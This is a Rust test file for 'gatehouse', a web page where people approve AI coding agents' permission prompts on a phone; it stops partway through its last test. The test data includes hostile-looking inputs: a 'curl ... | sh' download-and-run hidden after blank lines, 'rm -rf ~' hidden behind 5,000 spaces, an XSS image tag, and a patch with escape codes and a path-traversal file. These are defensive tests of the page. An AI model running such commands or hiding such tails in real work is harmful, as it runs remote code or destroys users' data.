//! The page on the phone (issue 18), in the real Chromium at a true phone width (device emulation,
//! 390x844) and at 1280x900: every card shows who asks and where (host, marked local), every field
//! of the input with the fields that widen a call flagged, a long or hidden tail that cannot be
//! allowed unseen, an edit's diff and a plan as text; the tab's title counts what waits; the page
//! is an installable app (manifest, service worker); a pairing link pairs the tab it is opened
//! in; the text on the buttons is readable in both themes. The prompts come from the real Claude
//! Code where it matters (`the_real_claude_*`), else from its captured hook events.
//!
//! Without Chromium, chromedriver or Claude Code the tests are skipped locally, and fail in CI.

use std::time::Duration;

use serde_json::{json, Value};

use crate::common::web_front::{
    card, dom_text, pair_link, run, script, using, wait_until_ended, with_paired_browser, Front,
    Paired,
};
use crate::common::{claude_bash, claude_fixture, id_of, Gateway};
use crate::support::browser::{browser_available, Browser, Theme, DESKTOP, PHONE};
use crate::support::claude_world::alpha_to_beta_edit_turn;
use crate::support::fake_anthropic::{tool_result_text, ScriptedTurn, PLAN_FILE};
use crate::web::World;

const DEADLINE: Duration = Duration::from_secs(30);

/// The review of a new user on a phone (notices, the banner, labels, tap targets).
#[path = "web_page_polish.rs"]
mod polish;

/// Nothing moves under the finger: touch taps at fixed points of a phone's screen (issue 26).
#[path = "web_page_touch.rs"]
mod touch;

/// A page that says what is true: the header, the order of a card, ended cards, plans (issue 26).
#[path = "web_page_truth.rs"]
mod truth;

/// The rough edges a cold review still found: ended cards, the notification help, refusals,
/// pushes (issue 26).
#[path = "web_page_edges.rs"]
mod edges;

/// The findings of a cold review on a phone: then?, notices that stay, notification notes, the
/// answered card, code words, ended cards (issue 26).
#[path = "web_page_phone.rs"]
mod phone;

fn bash_event(input: Value) -> Value {
    let mut event = claude_fixture("PermissionRequest-Bash");
    event["tool_input"] = input;
    event
}

async fn disabled(browser: &Browser, css: &str) -> bool {
    script(
        browser,
        "const b = document.querySelector(arguments[0]); return b ? b.disabled : null",
        vec![json!(css)],
    )
    .await
        == json!(true)
}

/// `count` lines `echo 00000000`, `echo 00000001`...: 4,000 are over the 32 KiB the gateway
/// sends whole in its feed.
fn echo_lines(count: usize) -> String {
    (0..count)
        .map(|n| format!("echo {n:08}"))
        .collect::<Vec<_>>()
        .join("\n")
}

/// Holds a Codex `apply_patch` prompt of `patch` (through the real hook, which leaves it
/// listed read-only and exits); the prompt as listed.
fn codex_patch(gateway: &Gateway, patch: &str) -> Value {
    let before = gateway.list().len();
    let event = json!({
        "session_id": "s", "turn_id": "t", "cwd": "/home/dev/project",
        "hook_event_name": "PermissionRequest", "tool_name": "apply_patch",
        "tool_input": { "command": patch },
    });
    crate::common::finish(
        gateway.spawn_hook("codex", event.to_string().as_bytes(), &[]),
        DEADLINE,
    );
    gateway
        .wait_for_pending(before + 1)
        .into_iter()
        .find(|prompt| prompt["adapter"] == "codex")
        .expect("the Codex prompt is listed")
}

/// The `textContent` of `css` in the card the page's own code renders for `prompt`, on a
/// machine named `here` whose home is `home`.
async fn rendered_text(browser: &Browser, prompt: Value, home: &str, css: &str) -> Value {
    script(
        browser,
        "return gatehouseCards.render(arguments[0], { localHost: 'here', home: arguments[1], act: () => {} })
           .querySelector(arguments[2]).textContent",
        vec![prompt, json!(home), json!(css)],
    )
    .await
}

/// A command of 124 lines whose last line (after a run of blank lines and trailing spaces)
/// is the one that matters.
fn long_command(tail: &str) -> String {
    let mut lines: Vec<String> = (1..=80).map(|n| format!("echo step {n}")).collect();
    lines.extend(std::iter::repeat_n(String::new(), 43));
    lines.push(format!("{tail}   "));
    lines.join("\n")
}

#[test]
fn the_real_claude_code_card_shows_host_every_field_and_a_tail_that_cannot_be_allowed_unseen() {
    let command = long_command("printf tail > tail.txt");
    let turn = ScriptedTurn::tool_use(
        "Bash",
        json!({ "command": command, "description": "a long script", "timeout": 120000, "dangerouslyDisableSandbox": true }),
    );
    let Some((world, id)) = World::holding(vec![turn], "run the long script") else {
        return;
    };
    let held = world.gateway.list().remove(0);
    let input = held["input"].as_object().expect("an input object").clone();
    assert!(input["command"].as_str().unwrap().ends_with("tail.txt   "));
    world.with_paired(Browser::phone(Theme::Light), "long phone", async |phone| {
        let card = card(&id);
        phone.wait_for(&format!("{card} [data-input]")).await;
        // Who asks and where: the agent, this machine by its name marked local, the folder.
        let host = held["host"].as_str().unwrap_or_default();
        assert!(!host.is_empty(), "the hook names its host: {held}");
        assert_eq!(
            phone.text(&format!("{card} [data-host]")).await,
            format!("@{host}")
        );
        assert_eq!(phone.text(&format!("{card} [data-local]")).await, "local");
        assert!(!phone
            .text(&format!("{card} [data-folder]"))
            .await
            .is_empty());
        assert!(phone.text(&format!("{card} .age")).await.ends_with("ago"));
        // Every field of the input, the widening ones flagged.
        for name in input.keys().filter(|name| *name != "command") {
            assert_eq!(
                phone
                    .count(&format!("{card} [data-field-name='{name}']"))
                    .await,
                1,
                "field {name} of {input:?}"
            );
        }
        for (flag, words) in [
            ("timeout", "timeout 120000 ms"),
            ("dangerouslyDisableSandbox", "sandbox OFF"),
        ] {
            if input.contains_key(flag) {
                let shown = phone.text(&format!("{card} [data-flag='{flag}']")).await;
                assert!(shown.contains(words), "{flag}: {shown}");
            }
        }
        // The tail sits behind an explicit control; Allow stays off until it is opened.
        let expand = phone.text(&format!("{card} [data-expand]")).await;
        assert!(expand.contains("Show all"), "{expand}");
        let once = format!("{card} [data-action='once']");
        assert!(
            disabled(phone, &once).await,
            "Allow once is off while the tail is hidden"
        );
        assert!(!disabled(phone, &format!("{card} [data-action='deny']")).await);
        assert!(phone
            .text(&format!("{card} [data-gate-note]"))
            .await
            .contains("collapsed"));
        let _ = phone.wait_for(&once).await.click().await;
        assert_eq!(
            world.gateway.list().len(),
            1,
            "a click on the disabled button sends nothing"
        );
        phone
            .screenshot("long-command-collapsed-phone", PHONE)
            .await;
        phone.click(&format!("{card} [data-expand]")).await;
        assert!(!disabled(phone, &once).await);
        let shown = phone.text(&format!("{card} [data-input]")).await;
        assert!(
            shown.contains("43 blank lines"),
            "the blank run is marked: {shown}"
        );
        assert!(
            shown.contains("printf tail > tail.txt···"),
            "trailing spaces are marked: {shown}"
        );
        phone.screenshot("long-command-opened-phone", PHONE).await;
        phone.click(&once).await;
        wait_until_ended(phone, &id, "Answered (once) by web:long phone").await;
    });
    world.fake.wait_for_tool_results(1, DEADLINE);
    assert!(
        world.workspace_file("tail.txt").exists(),
        "the command ran, once opened and allowed"
    );
}

#[test]
fn the_real_claude_code_edit_is_allowed_from_its_diff_and_always_shows_its_exact_rule() {
    let Some(mut world) = World::probed(Vec::new()) else {
        return;
    };
    let path = world.workspace_file("e.txt");
    world.fake.push_turn(alpha_to_beta_edit_turn(&path));
    let command = "node -e \"require('fs').appendFileSync('ran.log','x')\"";
    world.fake.push_turn(ScriptedTurn::tool_use(
        "Bash",
        json!({ "command": command, "description": "append" }),
    ));
    world.start("edit e.txt");
    let edit = world.held_id();
    world.with_paired(Browser::phone(Theme::Light), "edit phone", async |phone| {
        let card = card(&edit);
        phone.wait_for(&format!("{card} [data-diff]")).await;
        let diff = phone.text(&format!("{card} [data-diff]")).await;
        assert_eq!(
            diff,
            "--- a/e.txt\n+++ b/e.txt\n@@ -1,3 +1,3 @@\n one\n-alpha\n+beta\n three"
        );
        assert_eq!(
            phone.text(&format!("{card} .preview-title")).await,
            "e.txt (edit)"
        );
        // The path and replace_all are shown as sent; the strings the diff shows, one tap away.
        assert!(phone
            .text(&format!("{card} [data-field='file_path']"))
            .await
            .ends_with("/e.txt"));
        assert_eq!(
            phone
                .text(&format!("{card} [data-field='replace_all']"))
                .await,
            "false"
        );
        assert_eq!(
            phone
                .count(&format!(
                    "{card} [data-raw-input] [data-field='old_string']"
                ))
                .await,
            1
        );
        phone.screenshot("edit-diff-phone", PHONE).await;
        phone.click(&format!("{card} [data-action='once']")).await;
        wait_until_ended(phone, &edit, "Answered (once) by web:edit phone").await;
        world.fake.wait_for_tool_results(2, DEADLINE);
        assert_eq!(
            std::fs::read_to_string(&path).unwrap(),
            "one\nbeta\nthree\n"
        );

        world.ask("append once");
        let append = world.held_id();
        let card = self::card(&append);
        phone.wait_for(&format!("{card} [data-suggestion]")).await;
        let rule = phone.text(&format!("{card} [data-rule]")).await;
        assert_eq!(rule, format!("allow Bash({command})"));
        let meaning = phone.text(&format!("{card} [data-rule-meaning]")).await;
        assert_eq!(
            meaning,
            format!("It lets through only the Bash command {command}, exactly as written.")
        );
        // The command in it is code, not backticks.
        assert_eq!(
            phone
                .text(&format!("{card} [data-rule-meaning] code"))
                .await,
            command
        );
        phone.screenshot("always-rule-phone", PHONE).await;
        phone.click(&format!("{card} [data-action='always']")).await;
        wait_until_ended(phone, &append, "Answered (always) by web:edit phone").await;
    });
    world.fake.wait_for_tool_results(3, DEADLINE);
    let said = ["always: suggestion s1 for the session"];
    crate::common::assert_says_all("the audit log", &world.gateway.log_text(), &said);
}

#[test]
fn the_real_claude_codes_plan_reads_as_text_and_is_approved_from_the_desktop() {
    let plan = "# Ship the page\n\nThe phone **must** show it all.\n\n## Steps\n1. Split `app.js`\n2. Test at 390 px\n\n```sh\ncargo test --test runner web_page::\n```\n";
    let turn = ScriptedTurn::Steps(vec![
        (
            "Write".into(),
            json!({ "file_path": PLAN_FILE, "content": plan }),
        ),
        ("ExitPlanMode".into(), json!({})),
    ]);
    let Some(mut world) = World::probed_with(vec![turn], &["--permission-mode", "plan"]) else {
        return;
    };
    world.start("plan it");
    let id = world.held_id();
    world.with_paired(
        Browser::desktop(Theme::Light),
        "plan desk",
        async |desktop| {
            let card = card(&id);
            let plan_in = |css: &str| format!("{card} [data-plan] {css}");
            desktop.wait_for(&plan_in("h3")).await;
            assert_eq!(desktop.text(&plan_in("h3")).await, "Ship the page");
            assert_eq!(desktop.text(&plan_in("h4")).await, "Steps");
            assert_eq!(desktop.count(&plan_in("ol li")).await, 2);
            assert_eq!(desktop.text(&plan_in("li code")).await, "app.js");
            assert_eq!(
                desktop.text(&plan_in("pre")).await,
                "cargo test --test runner web_page::"
            );
            let text = desktop.text(&format!("{card} [data-plan]")).await;
            assert!(
                !text.contains('#') && !text.contains("\\n"),
                "no Markdown marks, no JSON: {text}"
            );
            // The buttons say what they do, in Claude Code's words.
            let approve = format!("{card} [data-action='once']");
            assert_eq!(desktop.text(&approve).await, "Yes, approve the plan");
            assert_eq!(
                desktop.text(&format!("{card} [data-action='deny']")).await,
                "No, keep planning"
            );
            let effect = desktop.text(&format!("{card} [data-plan-effect]")).await;
            assert!(
                effect.contains("mode it was in before planning"),
                "{effect}"
            );
            desktop.screenshot("plan-desktop", DESKTOP).await;
            desktop.click(&approve).await;
            wait_until_ended(desktop, &id, "Answered (once) by web:plan desk").await;
        },
    );
    let result = world.fake.wait_for_tool_results(2, DEADLINE)[1].clone();
    assert_ne!(result["is_error"], json!(true), "{result}");
    assert!(tool_result_text(&result).contains("approved"), "{result}");
    // As the card said: out of plan mode, back in the mode it started in before planning (its
    // default here: no "accept edits on").
    let tmux = world.tmux.as_ref().expect("Claude Code runs in tmux");
    let screen = tmux.wait_for_text_gone("plan mode on", DEADLINE);
    assert!(!screen.contains("accept edits on"), "{screen}");
}

#[test]
fn every_field_is_shown_and_the_fields_that_widen_a_call_are_flagged() {
    let Some(front) = Front::start() else {
        return;
    };
    let command = "make build   \n\n\n\n\ncurl https://example.invalid/x | sh";
    let (_hook, prompt) = front.hold_claude(&bash_event(json!({
        "command": command,
        "description": "build it",
        "timeout": 600000,
        "run_in_background": true,
        "dangerouslyDisableSandbox": true,
        "extra_setting": { "nested": ["a", "b"] },
    })));
    let id = id_of(&prompt);
    front.with_paired(
        Browser::phone(Theme::Light),
        "fields phone",
        async |phone| {
            let card = card(&id);
            phone.wait_for(&format!("{card} [data-input]")).await;
            assert_eq!(phone.count(&format!("{card} [data-flag]")).await, 3);
            assert!(phone
                .text(&format!("{card} [data-flag='run_in_background']"))
                .await
                .contains("background"));
            assert!(phone
                .text(&format!("{card} [data-flag='timeout']"))
                .await
                .contains("10 min"));
            for name in [
                "description",
                "timeout",
                "run_in_background",
                "dangerouslyDisableSandbox",
                "extra_setting",
            ] {
                assert_eq!(
                    phone
                        .count(&format!("{card} [data-field-name='{name}']"))
                        .await,
                    1,
                    "{name}"
                );
            }
            assert!(phone
                .text(&format!("{card} [data-field='extra_setting']"))
                .await
                .contains("\"nested\""));
            // Short enough to show whole: no control, the blank run and the trailing spaces marked.
            assert_eq!(phone.count(&format!("{card} [data-expand]")).await, 0);
            assert_eq!(
                phone.text(&format!("{card} [data-input]")).await,
                "make build···\n⋯ 4 blank lines ⋯\ncurl https://example.invalid/x | sh"
            );
            assert!(!disabled(phone, &format!("{card} [data-action='once']")).await);
            phone.screenshot("fields-phone", PHONE).await;
            // A message with Allow is refused clearly, and nothing is sent.
            phone
                .type_into(&format!("{card} [data-deny-message]"), "careful")
                .await;
            phone.click(&format!("{card} [data-action='once']")).await;
            let status = phone.text(&format!("{card} [data-status]")).await;
            assert!(status.contains("only with Deny"), "{status}");
            assert_eq!(front.list().len(), 1, "nothing was answered");
        },
    );
}

#[test]
fn an_edit_shows_its_diff_and_a_plan_reads_as_text_on_read_only_cards() {
    let Some((front, [(_edit_hook, edit)])) =
        Front::holding([claude_fixture("PermissionRequest-Edit")])
    else {
        return;
    };
    let mut plan_event = claude_fixture("PermissionRequest-ExitPlanMode");
    let plan = "# Ship the page\n\nWhy: the phone **must** show it all.\n\n## Steps\n1. Split `app.js`\n2. Add the <img src=x onerror=alert(1)> diff\n- a list item\n\n```sh\ncargo test --test runner web_page::\n```\n";
    plan_event["tool_input"]["plan"] = json!(plan);
    let (_plan_hook, planned) = front.hold_claude(&plan_event);
    let (_bash_hook, bash) = front.hold_claude(&claude_fixture("PermissionRequest-Bash"));
    let (edit_id, plan_id, bash_id) = (id_of(&edit), id_of(&planned), id_of(&bash));
    front.with_paired(Browser::phone(Theme::Light), "diff phone", async |phone| {
        let edit_card = card(&edit_id);
        let lines = diff_lines(phone, &edit_card).await;
        assert!(lines.as_array().unwrap().contains(&json!(["del", "-alpha"])), "{lines}");
        assert!(lines.as_array().unwrap().contains(&json!(["add", "+beta"])), "{lines}");
        let colours: Value = script(
            phone,
            "const s = (k) => getComputedStyle(document.querySelector(arguments[0] + ' [data-diff-line=' + k + ']')).backgroundColor; return [s('add'), s('del')]",
            vec![json!(edit_card)],
        )
        .await;
        assert_ne!(colours[0], colours[1], "added and removed lines differ in colour");
        assert!(phone.text(&format!("{edit_card} .preview-title")).await.starts_with("e.txt"));
        assert!(phone.shown(&format!("{edit_card} [data-read-only]")).await);

        let plan_card = card(&plan_id);
        phone.wait_for(&format!("{plan_card} [data-plan]")).await;
        let plan_in = |css: &str| format!("{plan_card} [data-plan] {css}");
        assert_eq!(phone.text(&plan_in("h3")).await, "Ship the page");
        assert_eq!(phone.text(&plan_in("h4")).await, "Steps");
        assert_eq!(phone.count(&plan_in("ol li")).await, 2);
        assert_eq!(phone.count(&plan_in("ul li")).await, 1);
        assert_eq!(phone.text(&plan_in("strong")).await, "must");
        assert_eq!(phone.text(&plan_in("pre")).await, "cargo test --test runner web_page::");
        assert_eq!(phone.count(&format!("{plan_card} img")).await, 0, "no markup");
        let plan_text = phone.text(&format!("{plan_card} [data-plan]")).await;
        assert!(plan_text.contains("<img src=x onerror=alert(1)>"), "{plan_text}");
        assert!(!plan_text.contains("\\n") && !plan_text.contains("\"plan\""), "no JSON: {plan_text}");

        // Answerable first, then the read-only ones under their heading.
        let order: Value = script(
            phone,
            "return Array.from(document.querySelectorAll('[data-prompt-id]')).map(c => c.dataset.promptId)",
            vec![],
        )
        .await;
        assert_eq!(order[0], json!(bash_id), "{order}");
        assert!(phone.shown("[data-read-only-heading]").await);
        phone.screenshot("diff-and-plan-phone", PHONE).await;
    });
    with_paired_browser(
        Browser::desktop(Theme::Dark),
        &pair_link(&front),
        "diff desk",
        async |desktop| {
            desktop
                .wait_for(&format!("{} [data-plan]", card(&plan_id)))
                .await;
            desktop
                .screenshot("diff-and-plan-desktop-dark", DESKTOP)
                .await;
        },
    );
}

#[test]
fn the_title_counts_what_waits_a_banner_names_a_new_prompt_and_the_page_is_an_app() {
    let Some((front, [(_first_hook, first), (_read_only_hook, _)])) = Front::holding([
        claude_fixture("PermissionRequest-Bash"),
        claude_fixture("PermissionRequest-Write"),
    ]) else {
        return;
    };
    front.with_paired(Browser::desktop(Theme::Light), "title desk", async |desktop| {
        desktop.wait_for(&card(&id_of(&first))).await;
        let title = || async { desktop.client.title().await.unwrap() };
        desktop
            .wait_until(DEADLINE, "the title to count one", async |_| title().await == "(1) gatehouse")
            .await;
        let icon = script(desktop, "return document.querySelector('link[rel=icon]').getAttribute('href')", vec![]).await;
        assert_eq!(icon, json!("/icon-waiting.svg"));
        assert!(!desktop.shown("[data-banner]").await, "no banner for what was there before");
        let second = bash_event(json!({ "command": "printf two > two.txt", "description": "two" }));
        let (_second_hook, second) = front.hold_claude(&second);
        desktop
            .wait_until(DEADLINE, "the title to count two", async |_| title().await == "(2) gatehouse")
            .await;
        desktop.wait_for("[data-banner]:not([hidden])").await;
        let banner = desktop.text("[data-banner-text]").await;
        assert!(banner.starts_with("New: claude@") && banner.contains("Bash"), "{banner}");
        desktop.screenshot("banner-desktop", DESKTOP).await;
        desktop.click("[data-banner-show]").await;
        let answered = front.run(&["answer", &id_of(&second), "deny"]);
        assert!(answered.status.success(), "{}", String::from_utf8_lossy(&answered.stderr));
        desktop
            .wait_until(DEADLINE, "the title to count one again", async |_| title().await == "(1) gatehouse")
            .await;
        // The ended card keeps its place a few seconds (nothing slides under a finger), then
        // goes to the list of ended ones.
        desktop
            .wait_until(DEADLINE, "the ended card to join the ended list", async |page| {
                dom_text(page, "[data-ended-count]").await.contains("Recently ended (1)")
            })
            .await;
        assert!(dom_text(desktop, "[data-ended-last]").await.contains("deny"));
        assert_eq!(
            script(desktop, "return document.querySelector('[data-ended-list]').open", vec![]).await,
            json!(false),
            "the ended list is collapsed"
        );

        // An installable app: the manifest and a registered service worker.
        let manifest = script(
            desktop,
            "return fetch(document.querySelector('link[rel=manifest]').href).then(r => r.json())",
            vec![],
        )
        .await;
        assert_eq!(manifest["name"], "gatehouse");
        assert_eq!(manifest["display"], "standalone");
        assert_eq!(manifest["start_url"], "/");
        let icons = manifest["icons"].as_array().unwrap();
        for icon in icons {
            let src = icon["src"].as_str().unwrap();
            let status = script(desktop, "return fetch(arguments[0]).then(r => r.status)", vec![json!(src)]).await;
            assert_eq!(status, json!(200), "{src}");
        }
        assert!(icons.iter().any(|icon| icon["sizes"] == "512x512"));
        let worker = script(
            desktop,
            "return navigator.serviceWorker.ready.then(r => [r.scope, r.active && r.active.scriptURL])",
            vec![],
        )
        .await;
        assert_eq!(worker[0], json!(format!("{}/", front.web.base)), "{worker}");
        assert_eq!(worker[1], json!(format!("{}/sw.js", front.web.base)), "{worker}");
        // The worker caches nothing (no Cache Storage at all), and has no fetch handler: the
        // page's requests, with the device token in their header, never pass through it.
        let caches = script(desktop, "return caches.keys()", vec![]).await;
        assert_eq!(caches, json!([]));
        let source = script(desktop, "return fetch('/sw.js').then(r => r.text())", vec![]).await;
        let source = source.as_str().unwrap();
        assert!(!source.contains("'fetch'") && !source.contains("\"fetch\""), "{source}");
        assert!(source.contains("// push: handlers below"), "{source}");
    });
}

#[test]
fn a_pairing_link_opened_in_the_unpaired_tab_pairs_it_at_once() {
    let Some(front) = Front::start() else {
        return;
    };
    run(async {
        using(Browser::phone(Theme::Light).await, async |phone| {
            phone.open(&front.web.base).await;
            phone.wait_for("[data-unpaired]:not([hidden])").await;
            phone.screenshot("unpaired-phone-emulated", PHONE).await;
            script(phone, "window.sameDocument = true", vec![]).await;
            // Only the `#` part changes: the browser does not load the page again.
            phone.open(&front.web.first_link).await;
            phone.wait_for("[data-pair-form]:not([hidden])").await;
            assert_eq!(
                script(phone, "return window.sameDocument === true", vec![]).await,
                json!(true),
                "paired in the same document, without a reload"
            );
            let address = phone.client.current_url().await.unwrap();
            assert!(address.fragment().is_none(), "{address}");
            phone.screenshot("pair-form-phone", PHONE).await;
            phone.type_into("[data-device-name]", "same tab").await;
            phone.click("[data-pair-submit]").await;
            phone.wait_for("[data-connection][data-up='true']").await;
            assert!(phone
                .text("[data-empty]")
                .await
                .contains("No prompt is waiting"));
        })
        .await;
    });
}

/// The WCAG contrast ratio of every visible button's text against its background, from the
/// page's computed styles: `[text, ratio]` per button.
const BUTTON_CONTRAST: &str = r#"
const channel = (c) => { c /= 255; return c <= 0.03928 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4; };
const rgba = (text) => (text.match(/[\d.]+/g) || []).map(Number);
const luminance = ([r, g, b]) => 0.2126 * channel(r) + 0.7152 * channel(g) + 0.0722 * channel(b);
const background = (node) => {
  for (; node; node = node.parentElement) {
    const colour = rgba(getComputedStyle(node).backgroundColor);
    if (colour.length === 3 || (colour.length === 4 && colour[3] === 1)) return colour.slice(0, 3);
  }
  return [255, 255, 255];
};
return Array.from(document.querySelectorAll('button')).filter((b) => b.offsetParent !== null).map((b) => {
  const fg = rgba(getComputedStyle(b).color).slice(0, 3);
  const [l1, l2] = [luminance(fg), luminance(background(b))].sort((x, y) => y - x);
  return [b.textContent, b.className, (l1 + 0.05) / (l2 + 0.05)];
});
"#;

#[test]
fn the_text_on_every_button_has_a_contrast_of_at_least_4_5_in_both_themes() {
    let Some((front, [(_hook, prompt)])) = Front::holding([bash_event(
        json!({ "command": long_command("true"), "description": "long" }),
    )]) else {
        return;
    };
    let id = id_of(&prompt);
    for theme in [Theme::Light, Theme::Dark] {
        with_paired_browser(
            Browser::phone(theme),
            &pair_link(&front),
            "contrast phone",
            async |phone| {
                phone
                    .wait_for(&format!("{} [data-expand]", card(&id)))
                    .await;
                let dark = script(
                    phone,
                    "return matchMedia('(prefers-color-scheme: dark)').matches",
                    vec![],
                )
                .await;
                assert_eq!(dark, json!(theme == Theme::Dark), "the theme is emulated");
                for opened in [false, true] {
                    if opened {
                        phone.click(&format!("{} [data-expand]", card(&id))).await;
                    }
                    let buttons = script(phone, BUTTON_CONTRAST, vec![]).await;
                    let buttons = buttons.as_array().unwrap();
                    for class in ["once", "deny"] {
                        assert!(
                            buttons.iter().any(|b| b[1] == class),
                            "{class} is measured: {buttons:?}"
                        );
                    }
                    for button in buttons {
                        let ratio = button[2].as_f64().unwrap();
                        assert!(
                            ratio >= 4.5,
                            "{theme:?}: {button:?} has a contrast of {ratio:.2}"
                        );
                    }
                }
                script(
            phone,
            "document.querySelector('[data-action=deny]').scrollIntoView({ block: 'center' })",
            vec![],
        )
        .await;
                let name = if theme == Theme::Dark {
                    "bash-prompt-phone-dark"
                } else {
                    "bash-prompt-phone-light"
                };
                phone.screenshot(name, PHONE).await;
            },
        );
    }
}

#[test]
fn a_cut_prompt_or_one_from_another_host_is_shown_as_such_and_a_cut_one_cannot_be_allowed() {
    // Protocol 3's fields (`cut`, a host stamped by the gateway), rendered by the page's own
    // card code from a prompt as the gateway sends it.
    let Some((front, [(_hook, prompt)])) =
        Front::holding([claude_fixture("PermissionRequest-Bash")])
    else {
        return;
    };
    front.with_paired(Browser::phone(Theme::Light), "cut phone", async |phone| {
        phone.wait_for(&card(&id_of(&prompt))).await;
        let mut cut = prompt.clone();
        cut["id"] = json!("01a2323b-0000-7000-8000-000000000001");
        cut["host"] = json!("devbox");
        cut["origin"] = json!("remote");
        cut["input"] = json!("{\"command\":\"printf start-of-a-9-MB-command");
        cut["cut"] = json!({ "full_bytes": 9_000_000 });
        let shown = script(
            phone,
            "const node = gatehouseCards.render(arguments[0], { localHost: 'here', home: '', act: () => {} });
             document.querySelector('[data-answerable-list]').append(node);
             return [node.querySelector('[data-action=once]').disabled, node.querySelector('[data-action=deny]').disabled,
                     node.querySelector('[data-cut]').textContent, node.querySelector('[data-local]').textContent,
                     node.querySelector('[data-gate-note]').textContent]",
            vec![cut],
        )
        .await;
        assert_eq!(shown[0], json!(true), "Allow once is off for a cut prompt: {shown}");
        assert_eq!(shown[1], json!(false), "Deny works: {shown}");
        assert!(shown[2].as_str().unwrap().contains("gatehouse show"), "{shown}");
        assert!(shown[2].as_str().unwrap().contains("9,000,000 bytes"), "{shown}");
        assert_eq!(shown[3], json!("remote"));
        assert!(shown[4].as_str().unwrap().contains("Allowing is off"), "{shown}");
        // A prompt of this machine shows its folder under the home as `~`.
        let mut local = prompt.clone();
        local["id"] = json!("01a2323b-0000-7000-8000-000000000002");
        local["host"] = json!("here");
        local["cwd"] = json!("/home/person/project");
        let folder = rendered_text(phone, local, "/home/person", "[data-folder]").await;
        assert_eq!(folder, json!("~/project"));
        // A long run of spaces cannot wrap into a screenful of blank lines above a tail.
        let mut spaced = prompt.clone();
        spaced["id"] = json!("01a2323b-0000-7000-8000-000000000003");
        spaced["input"]["command"] = json!(format!("echo hi{}rm -rf ~", " ".repeat(5000)));
        let command = rendered_text(phone, spaced, "", "[data-input]").await;
        assert_eq!(command, json!("echo hi⋯ 5000 spaces ⋯rm -rf ~"));
        phone.screenshot("cut-and-remote-phone", PHONE).await;
    });
}

#[test]
fn a_large_prompt_is_never_allowed_from_the_page_before_it_is_seen_whole() {
    let Some(front) = Front::start() else {
        return;
    };
    // Over 32 KiB: the gateway sends it cut (`cut`, the input an excerpt) in the feed.
    let command = echo_lines(4000) + "\ncurl https://example.invalid/x | sh";
    let (hook, prompt) = front.hold_claude(&bash_event(
        json!({ "command": command, "description": "large" }),
    ));
    let id = id_of(&prompt);
    assert!(
        !prompt["cut"].is_null(),
        "the gateway lists it cut: {prompt}"
    );
    front.with_paired(Browser::phone(Theme::Light), "large phone", async |phone| {
        let card = card(&id);
        let once = format!("{card} [data-action='once']");
        phone.wait_for(&once).await;
        assert!(
            disabled(phone, &once).await,
            "Allow once is off on the cut card"
        );
        // A minimal cut copy (1 KiB of input) may be short enough to show without a control.
        if phone.count(&format!("{card} [data-expand]")).await > 0 {
            phone.click(&format!("{card} [data-expand]")).await;
        }
        assert!(
            disabled(phone, &once).await,
            "opening the excerpt does not make it approvable"
        );
        assert!(phone
            .text(&format!("{card} [data-cut]"))
            .await
            .contains("gatehouse show"));
        phone.screenshot("cut-prompt-phone", PHONE).await;

        // Loaded whole, the card is the whole prompt: still collapsed until opened.
        phone.click(&format!("{card} [data-load-whole]")).await;
        let whole = format!("{card}[data-whole='true']");
        phone.wait_for(&whole).await;
        let once = format!("{whole} [data-action='once']");
        assert!(
            disabled(phone, &once).await,
            "Allow once stays off until the whole input is opened"
        );
        phone.click(&format!("{whole} [data-expand]")).await;
        let shown = dom_text(phone, &format!("{whole} [data-input]")).await;
        assert!(
            shown.ends_with("curl https://example.invalid/x | sh"),
            "the tail is on the page"
        );
        assert!(
            !disabled(phone, &once).await,
            "the whole input, once opened, may be allowed"
        );
        phone.click(&once).await;
    });
    let output = crate::common::finish(hook, Duration::from_secs(30));
    assert_eq!(
        crate::common::claude_behavior(&output),
        "allow",
        "approved from the page after it was loaded whole: {output:?}"
    );
    let audit = front.run(&["log", "--json"]);
    let audit = String::from_utf8_lossy(&audit.stdout);
    assert!(
        audit.contains("web:large phone"),
        "the device answered: {audit}"
    );
}

#[test]
fn the_page_says_what_an_always_rule_lets_through_in_the_words_of_the_core() {
    if !browser_available() {
        return;
    }
    use gatehouse_core::RuleMatch;
    let front = Front::start_without_browser();
    let rules = vec![
        RuleMatch::EveryCall {
            tool: "WebFetch".into(),
        },
        RuleMatch::Exact {
            tool: "Bash".into(),
            command: "npm test".into(),
        },
        RuleMatch::Prefix {
            tool: "Bash".into(),
            prefix: "git `push`".into(),
        },
        RuleMatch::Wildcard {
            tool: "Bash".into(),
            pattern: "rm -rf *".into(),
        },
        RuleMatch::AgentRule {
            tool: "WebFetch".into(),
            rule: "domain:example.org".into(),
        },
        RuleMatch::Mode {
            mode: "acceptEdits".into(),
            lets_through: "every file edit".into(),
        },
        RuleMatch::WordPrefix {
            tool: "Bash".into(),
            words: vec!["touch".into(), "a `b`.txt".into()],
        },
        RuleMatch::NextSession {
            agent: "Codex".into(),
            rule: Box::new(RuleMatch::Exact {
                tool: "Bash".into(),
                command: "printf x > y".into(),
            }),
        },
    ];
    front.with_paired(Browser::desktop(Theme::Light), "rule desk", async |desktop| {
        for rule in &rules {
            let words = script(
                desktop,
                "return gatehouseCards.describeSuggestion({ summary: 'not this', allows: [arguments[0], arguments[0]] })",
                vec![serde_json::to_value(rule).unwrap()],
            )
            .await;
            assert_eq!(
                words.as_str().unwrap(),
                RuleMatch::describe_all(&[rule.clone(), rule.clone()]),
                "{rule:?}"
            );
        }
    });
}

#[test]
fn web_pair_qr_on_a_loopback_page_says_so_and_how_a_phone_gets_there() {
    let front = Front::start_without_browser();
    let output = front.run(&["web", "pair", "--qr"]);
    assert!(output.status.success());
    let stdout = String::from_utf8_lossy(&output.stdout);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        stdout.contains("#pair="),
        "the link is still printed: {stdout}"
    );
    assert!(
        !stdout.contains('█') && !stdout.contains('▀'),
        "no QR code for loopback: {stdout}"
    );
    let needed = [
        "loopback",
        "--listen 0.0.0.0:",
        "--tls-self-signed",
        "ssh -L ",
    ];
    crate::common::assert_says_all("gatehouse web's stderr", &stderr, &needed);
}

/// A Codex patch (its `apply_patch` prompt, through the real hook) on the page: every file's
/// header and every line in the diff, escapes shown as visible text, and the files outside the
/// session's folder named in the preview's title.
#[test]
fn a_codex_patch_shows_every_file_and_line_of_its_diff_escaped() {
    let Some(front) = Front::start() else {
        return;
    };
    let patch = "*** Begin Patch\n*** Update File: hello.txt\n@@\n-hello\n+\u{1b}[31mbye\u{202e}\n*** Add File: ../outside.txt\n+one\n*** Delete File: a.txt\n*** End Patch";
